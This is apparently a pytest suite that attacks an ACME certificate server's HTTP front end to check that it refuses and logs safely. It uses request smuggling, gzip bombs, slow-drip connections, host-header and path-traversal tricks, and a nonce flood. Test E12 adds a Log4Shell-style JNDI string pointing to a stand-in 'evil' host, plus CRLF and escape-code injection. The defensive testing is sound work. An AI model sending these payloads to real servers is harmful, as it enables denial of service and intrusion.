"""Rows E1 to E10 and E12: HTTP itself; what HTTP/2 adds is in `test_front_proxy.py`."""

import asyncio
import gzip
import json
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

import pytest
import structlog

from ca.process.log import set_up_logging
from tests.acme_api.hostile.ground import Ground, require_clean
from tests.acme_api.wfe.running import BASE, OtherProcesses, RunningWfe, finalize, ready_order
from tests.acme_client import JOSE_JSON, make_csr

_SIGNED = ["/acme/new-account", "/acme/new-order", "/acme/revoke-cert", "/acme/key-change", "/acme/account/" + "A" * 30,
           "/acme/account/" + "A" * 30 + "/orders", "/acme/order/" + "A" * 30, "/acme/order/" + "A" * 30 + "/finalize",
           "/acme/authz/" + "A" * 30, "/acme/challenge/" + "A" * 30 + "/dns-01",
           "/acme/cert/" + "ab" * 18 + "/" + "A" * 30]
_POST = b"POST /acme/new-order HTTP/1.1\r\nHost: x\r\nContent-Type: application/jose+json\r\n"


async def _raw(ground: Ground, data: bytes) -> bytes:
    """Sends bytes and reads until the server closes."""
    url = urlsplit(ground.wfe.address)
    reader, writer = await asyncio.open_connection(url.hostname, url.port)
    try:
        writer.write(data)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), 30)
    finally:
        writer.close()


def _statuses(answer: bytes) -> list[int]:
    return [int(line.split()[1]) for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.")]


async def _refused(ground: Ground, data: bytes, *statuses: int) -> bytes:
    """One problem document with one nonce, the connection closed, and nothing made of what follows; its head."""
    answer = await _raw(ground, data + b"GET /directory HTTP/1.1\r\nHost: x\r\n\r\n")
    head, _, body = answer.partition(b"\r\n\r\n")
    found = _statuses(answer)
    assert len(found) == 1, data[:200]
    assert found[0] in statuses, (data[:200], answer[:300])
    assert b"content-type: application/problem+json" in head.lower()
    assert head.lower().count(b"replay-nonce:") == 1
    assert json.loads(body)["type"].endswith(":malformed")
    return head


async def test_e1_to_e3_methods_types_and_sizes(ground: Ground) -> None:
    """Rows E1 to E3: 405 with Allow, 415 with a nonce and nothing inflated, 413 before the rest is read."""
    client = ground.attacker
    async with ground.row("E1"):
        for path in _SIGNED:
            for method in ("GET", "HEAD", "PUT", "DELETE", "PATCH", "TRACE"):
                answer = await client.send(method, path)
                assert (answer.status, answer.headers["Allow"]) == (405, "POST, OPTIONS")
            unknown = await _refused(ground, f"FOO {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), 405)
            assert b"\r\nallow: post, options\r\n" in unknown.lower() + b"\r\n"
        for path, status, allow in (("/directory", 405, b"GET, HEAD, POST, OPTIONS"), ("/nope", 404, None),
                                    ("/acme/renewal-info/a.b", 405, b"GET, HEAD, OPTIONS")):
            unknown = await _refused(ground, f"BREW {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), status)
            assert (b"\r\nAllow: " + (allow or b"") in unknown) == (allow is not None)
        await _refused(ground, b"garbage\r\n\r\n", 400)
        assert (await client.post("/acme/renewal-info/a.b", {})).require(405, "malformed").headers["Allow"]
    async with ground.row("E2"):
        bomb = gzip.compress(bytes(10_000_000))
        for content_type in ("", "application/json", "text/plain", "multipart/form-data"):
            body = await client.signed("/acme/new-order", {})
            (await client.send("POST", "/acme/new-order", data=body, headers={"Content-Type": content_type})).require(
                415, "malformed")
        (await client.send("POST", "/acme/new-order", data=bomb, headers=JOSE_JSON | {"Content-Encoding": "gzip"})
         ).require(415, "malformed")
    async with ground.row("E3"):
        endless = b"Transfer-Encoding: chunked\r\n\r\n" + (b"10000\r\n" + b"x" * 65_536 + b"\r\n") * 2
        for rest in (b"Content-Length: 65537\r\n\r\n" + b"x" * 65_537, b"Content-Length: 10000000000\r\n\r\n", endless):
            await _refused(ground, _POST + rest, 413)


async def test_e4_slow_requests(start: Callable[..., Awaitable[RunningWfe]], others: OtherProcesses,
                                capsys: pytest.CaptureFixture[str]) -> None:
    """Row E4: 500 connections that send nothing, half a header or half a body, or one octet now and then, at once:
    others are served meanwhile, and who drips is not waited for either."""
    ground = await Ground.make(await start(read_timeout_s=3.0), others, capsys)
    async with ground.row("E4"):
        beginnings = [b"", b"GET /dir", _POST, _POST + b"Content-Length: 10\r\n\r\nx"] * 125
        slow = [asyncio.create_task(_raw(ground, beginning)) for beginning in beginnings[20:]]
        dripping = [asyncio.create_task(_drip(ground, begun)) for begun in (
            b"GET /", b"GET /directory HTTP/1.1\r\nX: ", _POST, _POST + b"Content-Length: 1000\r\n\r\n") * 5]
        for _ in range(5):
            (await ground.bystander.post(ground.bystander.kid)).require(200)
        for answer in await asyncio.gather(*slow):
            assert _statuses(answer) in ([], [408])
        for answer in await asyncio.gather(*dripping):
            assert _statuses(answer) in ([], [408])
    await ground.end()


async def _drip(ground: Ground, begun: bytes) -> bytes:
    """Sends a beginning, then an octet every third of a second until the server closes, which it has to do long before
    anything is whole; what it said."""
    url = urlsplit(ground.wfe.address)
    reader, writer = await asyncio.open_connection(url.hostname, url.port)
    said = asyncio.create_task(reader.read())
    writer.write(begun)
    for _ in range(90):
        writer.write(b"A")
        if await asyncio.wait([said], timeout=0.33) != (set(), {said}):
            break
    writer.close()
    assert said.done(), "the server waits as long as something comes"
    try:
        return await said
    except ConnectionError:
        return b""


async def test_e5_to_e8_broken_http(ground: Ground) -> None:
    """Rows E5 to E8: headers, smuggling, hosts and paths."""
    get = b"GET /directory HTTP/1.1\r\nHost: x\r\n"
    async with ground.row("E5"):
        await _refused(ground, get + b"X: " + b"y" * 17_000 + b"\r\n\r\n", 431)
        await _refused(ground, get + b"X: y\r\n" * 500 + b"\r\n", 431)
        await _refused(ground, get + b"X: a\x00b\r\n\r\n", 400)
        await _refused(ground, get + b"X: a\rb\r\n\r\n", 400)
    async with ground.row("E6"):
        for lengths in (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                        b"Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
                        b"Transfer-Encoding: xchunked\r\n\r\nabcd"):
            await _refused(ground, _POST + lengths, 400)
    async with ground.row("E7"):
        evil = (b"Host: evil.example\r\nX-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: http\r\n"
                b"Forwarded: host=evil.example;proto=http\r\nConnection: close\r\n")
        answer = await _raw(ground, b"GET https://evil.example/directory HTTP/1.1\r\n" + evil + b"\r\n")
        assert b"evil" not in answer
        assert f"{BASE}/acme/new-order".encode() in answer
        body = await ground.attacker.signed(ground.attacker.kid)
        headers = JOSE_JSON | {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil"}
        shown = (await ground.attacker.send("POST", ground.attacker.kid, data=body, headers=headers)).require(200)
        assert "evil" not in str(shown.headers) + shown.body.decode()
    async with ground.row("E8"):
        for path in ("//acme/new-order", "/acme/../admin", "/%2e%2e", "/acme/%6eew-order", "/acme/new-order/",
                     "/acme/new-order;x", "/acme/new-order%00", "/acme/order/" + "A" * 7_000, "/" + "a" * 9_000):
            for method in ("GET", "POST"):
                await _refused(ground, f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
                                       "Connection: close\r\n\r\n".encode(), 404, 400, 414)


async def test_e9_e10_floods_and_origins(ground: Ground) -> None:
    """Rows E9, E10: thousands of nonces are made without a trace, and all of them work; browsers get fixed headers."""
    async with ground.row("E9"):
        first = (await ground.attacker.send("HEAD", "/acme/new-nonce")).nonces
        for _ in range(40):
            await asyncio.gather(*[ground.attacker.send("HEAD", "/acme/new-nonce") for _ in range(50)])
        (await ground.bystander.post(ground.bystander.kid, nonce=first[0])).require(200)
        ground.attacker.nonces.clear()
    async with ground.row("E10"):
        origin = {"Origin": "null", "Access-Control-Request-Method": "PUT", "Access-Control-Request-Headers": "X-Evil"}
        for path in ("/directory", "/acme/new-order"):
            answer = await ground.attacker.send("OPTIONS", path, headers=origin)
            assert answer.status == 204
            assert answer.headers["Access-Control-Allow-Origin"] == "*"
            assert answer.headers["Access-Control-Allow-Headers"] == "Content-Type"
            assert "PUT" not in answer.headers["Access-Control-Allow-Methods"]
            assert "Access-Control-Allow-Credentials" not in answer.headers
            assert "X-Evil" not in str(answer.headers)


async def test_e12_log_lines(start: Callable[..., Awaitable[RunningWfe]], others: OtherProcesses,
                             capsys: pytest.CaptureFixture[str]) -> None:
    """Row E12: what strangers write into headers, paths, payloads and CSRs stays within one JSON line, escaped, each
    value cut at a kibibyte; a header of a megabyte is not even read."""
    set_up_logging("wfe")
    try:
        ground = await Ground.make(await start(), others, capsys)
        capsys.readouterr()
        evil = "${jndi:ldap://evil}" + "A" * 6_000
        name = {"type": "dns", "value": "a\r\nb\x1b[31m" + evil}
        body = await ground.attacker.signed("/acme/new-order", {"identifiers": [name]})
        headers = JOSE_JSON | {"User-Agent": evil}
        answer = await ground.attacker.send("POST", "/acme/new-order", data=body, headers=headers)
        answer.require(400, "malformed")
        refused = await ground.wfe.client().register(contact=["mailto:a\r\nBcc: b@x.example\x1b[2J@x.example"])
        refused.require(400, "invalidContact")
        ready = await ready_order(ground.attacker, others, "a.example.com")
        subject = "a\r\nb\x1b[31m" + evil[:20]
        csr = await finalize(ground.attacker, ready, make_csr("a.example.com", common_name=subject))
        csr.require(400, "badCSR")
        lost = await ground.attacker.send("GET", "/acme/" + evil, headers={"User-Agent": "\t\x80" + evil})
        lost.require(404, "malformed")
        with suppress(ConnectionError):     # closed with most of it unread
            assert _statuses(await _raw(
                ground, b"GET /directory HTTP/1.1\r\nUser-Agent: " + b"A" * 1_000_000 + b"\r\n\r\n")) == [431]
        for each in (answer, refused, csr, lost):
            require_clean(each)
        lines = [line for line in capsys.readouterr().err.splitlines() if line]
        assert len(lines) >= 4
        for line in lines:
            assert "\x1b" not in line
            values = json.loads(line)
            assert max(len(value) for value in values.values() if isinstance(value, str)) <= 1_025
        await ground.end()
    finally:
        structlog.reset_defaults()
